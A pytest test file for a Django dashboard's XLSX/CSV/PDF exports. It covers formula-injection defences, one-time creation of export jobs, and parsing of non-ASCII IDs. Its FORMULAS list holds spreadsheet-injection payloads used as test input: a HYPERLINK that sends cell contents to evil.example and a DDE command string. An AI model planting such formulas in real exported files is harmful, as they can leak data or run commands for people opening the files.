"""Exports under error and attack (issue #10): no text cell of the workbook is
a formula (#10.4); export jobs are created by POST, once, the database holding
one current job per request (#10.9); a unit with no assignments and ids in
other scripts answer pages, not errors (#10.2)."""

import csv
import io
import threading
from urllib.parse import urlencode

import openpyxl
import pytest
import time_machine
from django.db import IntegrityError, connections, transaction
from django.test import Client
from django.urls import reverse

from dashboard.exports import jobs
from dashboard.models import ExportJob, ExportKind, ExportState
from dashboard.tasks import build_export
from reports.models import Assignment
from reports.spreadsheets import csv_text, sheet_append
from tests.dashboard import test_exports as shared
from tests.factories import UnitFactory

world, today, private_root = shared.world, shared.today, shared.private_root
at, D = shared.at, shared.D

# What people have typed into names, codes, titles and responsible persons.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
URLS = {
    ExportKind.XLSX: "dashboard_export_xlsx",
    ExportKind.DOCX: "dashboard_summary_docx",
    ExportKind.PDF: "dashboard_summary_pdf",
}


# --- #10.4: no formulas -------------------------------------------------------------------------


def test_no_cell_of_the_workbook_is_a_formula_whatever_the_names_begin_with(world, committee_user, client_for, today):
    for unit, text in zip(world.units, FORMULAS, strict=False):
        unit.name, unit.code = text, text[:20]
        unit.save()
    for task, text in zip(world.tasks, FORMULAS[3:], strict=False):
        task.title = text
        task.save()
    Assignment.objects.filter(task__directive=world.directive).update(responsible_person=FORMULAS[0])

    response = client_for(committee_user).get(reverse("dashboard_export_xlsx"), world.query)
    book = openpyxl.load_workbook(io.BytesIO(response.content))

    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    # The text is kept as typed, and the cells that look like formulas are marked as quoted text.
    assert FORMULAS[0] in texts and FORMULAS[1] in texts and any(FORMULAS[3] in text for text in texts)
    quoted = [cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "@"))]
    assert quoted and all(cell.quotePrefix for cell in quoted)


def test_the_cell_rule_is_one_helper_for_workbooks_and_csv():
    book = openpyxl.Workbook()
    sheet = book.active
    sheet_append(sheet, [*FORMULAS, "Huyện ủy Tứ Kỳ", 12, None])
    saved = io.BytesIO()
    book.save(saved)
    row = next(openpyxl.load_workbook(saved).active.iter_rows())
    assert [cell.value for cell in row[: len(FORMULAS) + 2]] == [*FORMULAS, "Huyện ủy Tứ Kỳ", 12]
    assert {cell.data_type for cell in row[: len(FORMULAS)]} == {"s"}

    written = io.StringIO()
    csv.writer(written).writerow([csv_text(value) for value in [*FORMULAS, "Huyện ủy", 12]])
    cells = next(csv.reader(io.StringIO(written.getvalue())))
    assert all(cell.startswith("'") for cell in cells[: len(FORMULAS)])
    assert cells[len(FORMULAS) :] == ["Huyện ủy", "12"]


# --- #10.9: export jobs by POST, once -------------------------------------------------------------


@pytest.fixture
def jobs_only(settings, private_root):
    settings.EXPORT_INLINE_MAX_ROWS = 0


@pytest.fixture
def queued(monkeypatch):
    sent = []
    monkeypatch.setattr(build_export, "delay", lambda job_id: sent.append(job_id))
    return sent


def export_url(kind, world):
    return f"{reverse(URLS[kind])}?{urlencode(world.query)}"


@pytest.mark.parametrize("kind", list(URLS))
def test_opening_a_large_exports_link_makes_no_job_and_offers_the_form(
    kind, world, committee_user, client_for, today, jobs_only, queued
):
    client = client_for(committee_user)
    for _reload in range(3):
        response = client.get(export_url(kind, world))
        assert response.status_code == 200
        body = response.content.decode()
        assert 'data-testid="export-create"' in body and 'method="post"' in body
    assert ExportJob.objects.count() == 0 and queued == []


@pytest.mark.parametrize("kind", list(URLS))
def test_a_small_export_is_still_a_plain_download(kind, world, committee_user, client_for, today, private_root):
    client = client_for(committee_user)
    for method in (client.get, client.post):
        response = method(export_url(kind, world))
        assert response.status_code == 200
        assert response["Content-Disposition"].startswith("attachment;")
    assert ExportJob.objects.count() == 0


def test_the_database_refuses_a_second_current_job_for_the_same_request(world, committee_user):
    fields = {"user": committee_user, "kind": ExportKind.XLSX, "query": "directive=1", "language": "vi"}
    ExportJob.objects.create(**fields)
    with pytest.raises(IntegrityError), transaction.atomic():
        ExportJob.objects.create(**fields)
    ExportJob.objects.create(**fields, is_current=False)  # an old one, kept for its file
    ExportJob.objects.create(**(fields | {"language": "en"}))  # another request
    assert ExportJob.objects.count() == 3


def test_a_finished_job_is_handed_again_for_a_while_then_built_again(world, committee_user, settings, queued):
    settings.EXPORT_REUSE_SECONDS = 600
    request = {"user": committee_user, "kind": ExportKind.PDF, "query": "directive=1", "language": "vi"}
    with time_machine.travel(at(D(2025, 1, 15), 9), tick=False):
        first, created = jobs.export_job_create(**request)
        assert created
        ExportJob.objects.filter(pk=first.pk).update(
            state=ExportState.DONE, progress=100, finished_at=at(D(2025, 1, 15), 9)
        )
    with time_machine.travel(at(D(2025, 1, 15), 9).replace(minute=9), tick=False):
        assert jobs.export_job_create(**request) == (first, False)
    with time_machine.travel(at(D(2025, 1, 15), 9).replace(minute=11), tick=False):
        second, created = jobs.export_job_create(**request)
    assert created and second != first
    assert ExportJob.objects.get(pk=first.pk).is_current is False  # its file stays downloadable


def test_a_failed_job_is_not_handed_again(world, committee_user, queued):
    request = {"user": committee_user, "kind": ExportKind.XLSX, "query": "directive=1", "language": "vi"}
    first, _created = jobs.export_job_create(**request)
    jobs.export_job_fail(job_id=first.pk, error=ValueError("the directive is gone"))
    second, created = jobs.export_job_create(**request)
    assert created and second != first


@pytest.mark.django_db(transaction=True)
def test_ten_parallel_posts_make_one_job_queued_once(world, committee_user, today, jobs_only, queued):
    url = export_url(ExportKind.PDF, world)
    start = threading.Barrier(10)
    answers, errors = [], []

    def click():
        try:
            client = Client()
            client.force_login(committee_user)
            start.wait()
            answers.append(client.post(url))
        except Exception as error:  # reported below
            errors.append(error)
        finally:
            connections.close_all()

    threads = [threading.Thread(target=click) for _ in range(10)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()

    assert errors == []
    job = ExportJob.objects.get()
    assert [answer.status_code for answer in answers] == [303] * 10
    assert {answer["Location"] for answer in answers} == {reverse("dashboard_export_job", args=[job.pk])}
    assert queued == [str(job.pk)]


# --- #10.2: a unit with no assignments; ids in other scripts -----------------------------------------


@pytest.fixture
def bodies(world):
    """The HĐND, UBND and MTTQ of the province: real units with no assignment in the directive."""
    kinds = {"peoples_council": "HĐND tỉnh", "peoples_committee": "UBND tỉnh", "fatherland_front": "Ủy ban MTTQ tỉnh"}
    return [
        UnitFactory(code=kind, name=name, kind=kind, level=1, parent=world.province) for kind, name in kinds.items()
    ]


def test_a_unit_with_no_assignments_answers_every_unit_scoped_page_and_export(
    world, bodies, committee_user, client_for, today, private_root
):
    client = client_for(committee_user)
    for unit in bodies:
        scoped = {**world.query, "unit": unit.pk}
        for name in ("dashboard", "dashboard_figure_rows", *URLS.values()):
            response = client.get(reverse(name), scoped)
            assert response.status_code == 200, (unit.name, name, response.status_code)
        for name in ("dashboard_task",):
            assert client.get(reverse(name, args=[world.tasks[0].pk]), scoped).status_code == 200
        page = client.get(reverse("dashboard_unit", args=[unit.pk]), world.query)
        assert page.status_code == 200
        assert 'data-testid="no-assignments"' in page.content.decode()
        assert unit.name in page.content.decode()
        assert 'data-testid="no-assignments"' in client.get(reverse("dashboard"), scoped).content.decode()
        assert client.get(reverse("dashboard_matrix_children", args=[unit.pk]), world.query).status_code == 404


def arabic_indic(number):
    return str(number).translate(str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩"))


def test_ids_in_other_scripts_are_never_read_as_numbers(world, committee_user, client_for, today):
    client = client_for(committee_user)
    unit, task = world.units[0], world.tasks[0]
    assert client.get(reverse("dashboard"), {"unit": unit.pk}).status_code == 200
    for value in (arabic_indic(unit.pk), "²", "-1", str(2**63), "1\x00"):
        assert client.get(reverse("dashboard"), {"unit": value}).status_code == 404, value
        assert client.get(reverse("dashboard_figure_rows"), {"task": value}).status_code == 404, value
    shown = client.get(reverse("dashboard"), {**world.query, "directive": arabic_indic(world.directive.pk)})
    assert shown.status_code == 200 and "directive" in shown.context["selection"].form.errors
    assert client.get(reverse("dashboard_figure_rows"), {"task": task.pk}).status_code == 200
